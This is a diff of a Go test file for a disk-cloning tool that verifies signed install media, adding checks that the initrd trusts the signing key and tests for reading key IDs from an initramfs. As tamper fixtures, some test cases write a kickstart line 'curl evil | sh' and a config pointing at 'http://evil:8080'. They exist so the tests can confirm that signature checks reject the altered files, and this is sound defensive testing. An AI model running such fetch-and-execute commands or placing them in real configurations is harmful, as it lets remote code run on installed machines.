@@ -1,6 +1,8 @@
 package clone
 
 import (
+	"bytes"
+	"compress/gzip"
 	"context"
 	"crypto/sha256"
 	"encoding/hex"
@@ -15,6 +17,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/clonecd/clonecd/cpio"
 	"github.com/clonecd/clonecd/internal/testenv"
 	"github.com/clonecd/clonecd/medium"
 	"github.com/clonecd/clonecd/trust"
@@ -116,6 +119,10 @@ func TestCloneTrust(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	initrd := func(names ...string) string {
+		return string(testGzip(testArchive(t)(append([]string{"init"}, names...)...)))
+	}
+	os.WriteFile(filepath.Join(signed, medium.Initrd), []byte(initrd("etc/clonecd/trust/"+key.Public().FileName())), 0o644)
 	signMedia(t, signed, key)
 	keys, err := trust.NewVerifier(key.Public())
 	if err != nil {
@@ -127,6 +134,11 @@ func TestCloneTrust(t *testing.T) {
 		t.Fatalf("%v: %s", err, out)
 	}
 
+	wantLog := map[string]string{
+		"signed": `setup: isolinux/initrd.img \(the ramclone entry\) trusts key ` + key.ID(),
+		"signed, an initrd without the key": `setup: warning: isolinux/initrd.img, the cloner this node keeps as its ramclone entry, does not trust key ` +
+			key.ID() + ` \(it trusts: ` + other.ID() + `\)`,
+	}
 	change := func(name, text string) func(string) {
 		return func(m string) { os.WriteFile(filepath.Join(m, filepath.FromSlash(name)), []byte(text), 0o644) }
 	}
@@ -140,13 +152,22 @@ func TestCloneTrust(t *testing.T) {
 		{"signed", nil, keys, "", "signed by key " + key.ID()},
 		{"no key", nil, nil, "", trust.Unsigned},
 		{"no key, unsigned medium", func(m string) { os.Remove(filepath.Join(m, medium.SignatureFile)) }, nil, "", trust.Unsigned},
+		{"signed, an initrd without the key", func(m string) {
+			change(medium.Initrd, initrd("etc/clonecd/trust/"+other.Public().FileName()))(m)
+			signMedia(t, m, key)
+		}, keys, "", "signed by key " + key.ID()},
 		{"layout", change(medium.Layout, strings.Replace(smallLayout, "size=65536", "size=65537", 1)), keys, medium.Layout, "the manifest says"},
 		{"ks.cfg", change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n"), keys, medium.Kickstart, "the manifest says"},
 		{"nodes", change(medium.Nodes, "52:54:00:12:34:56 s002\n"), keys, medium.Nodes, "the manifest says"},
 		{"clonecd.conf", change(medium.Conf, "server=http://evil:8080\n"), keys, medium.Conf, "the manifest says"},
 		{"kernel", change(medium.Kernel, "an implant"), keys, medium.Kernel, "MANIFEST says"},
 		{"kernel removed", func(m string) { os.Remove(filepath.Join(m, medium.Kernel)) }, keys, medium.Kernel, "listed in MANIFEST but missing"},
-		{"initrd", change(medium.Initrd, "initrx"), keys, medium.Initrd, "sha256 [0-9a-f]{64}, the manifest says"},
+		{"initrd, one byte", func(m string) {
+			p := filepath.Join(m, medium.Initrd)
+			b, _ := os.ReadFile(p)
+			b[len(b)/2] ^= 1
+			os.WriteFile(p, b, 0o644)
+		}, keys, medium.Initrd, "sha256 [0-9a-f]{64}, the manifest says"},
 		{"image, with a matching .sha256", func(m string) {
 			for _, n := range []string{medium.ImageGzip, medium.SumName(medium.ImageGzip)} {
 				b, _ := os.ReadFile(filepath.Join(forged, n))
@@ -189,6 +210,9 @@ func TestCloneTrust(t *testing.T) {
 				}
 				if rep.trust != tt.why {
 					t.Errorf("reported trust %q; want %q", rep.trust, tt.why)
+				}
+				if want := wantLog[tt.name]; !regexp.MustCompile(want).MatchString(log.String()) {
+					t.Errorf("the log does not match %q", want)
 				}
 				if !strings.Contains(log.String(), "setup: "+tt.why) && !strings.Contains(log.String(), "setup: media "+tt.why) {
 					t.Errorf("the log does not say %s", tt.why)
@@ -237,6 +261,58 @@ func TestCloneTrust(t *testing.T) {
 			case tt.forged && (!errors.As(err, &se) || se.Step != "unpack" ||
 				!regexp.MustCompile(`node\.cpio\.gz: .*the manifest says .*not the image the master signed`).MatchString(err.Error())):
 				t.Fatalf("err = %v; want a refusal at unpack naming node.cpio.gz", err)
+			}
+		})
+	}
+}
+
+// testArchive returns a function that makes a newc archive of the named
+// files.
+func testArchive(t *testing.T) func(names ...string) []byte {
+	return func(names ...string) []byte {
+		var b bytes.Buffer
+		w := cpio.NewWriter(&b)
+		for _, n := range names {
+			w.WriteHeader(&cpio.Header{Name: n, Mode: 0o100644, Nlink: 1, Size: 3})
+			w.Write([]byte("key"))
+		}
+		if err := w.Close(); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+}
+
+func testGzip(b []byte) []byte {
+	var out bytes.Buffer
+	z := gzip.NewWriter(&out)
+	z.Write(b)
+	z.Close()
+	return out.Bytes()
+}
+
+// TestInitrdKeyIDs: the keys a cloner's initramfs trusts, gzip-compressed
+// or not; a file that is no initramfs is an error, not "no key".
+func TestInitrdKeyIDs(t *testing.T) {
+	archive, gz := testArchive(t), testGzip
+	two := archive("init", "etc/clonecd/trust/6D25424143BBD4E.pub", "./etc/clonecd/trust/3F1A09C2D44E5B71.pub",
+		"etc/clonecd/trust/notes.txt", "etc/clonecd/trust/sub/X.pub", "etc/clonecd/credential")
+	for _, tt := range []struct {
+		name   string
+		initrd []byte
+		want   string
+		err    bool
+	}{
+		{"gzip", gz(two), "6D25424143BBD4E 3F1A09C2D44E5B71", false},
+		{"plain", two, "6D25424143BBD4E 3F1A09C2D44E5B71", false},
+		{"no key", gz(archive("init", "etc/passwd")), "", false},
+		{"not an initramfs", []byte("initrd"), "", true},
+		{"truncated", gz(two)[:40], "", true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			ids, err := initrdKeyIDs(tt.initrd)
+			if got := strings.Join(ids, " "); got != tt.want || (err != nil) != tt.err {
+				t.Errorf("initrdKeyIDs = %q, %v; want %q, error %v", got, err, tt.want, tt.err)
 			}
 		})
 	}
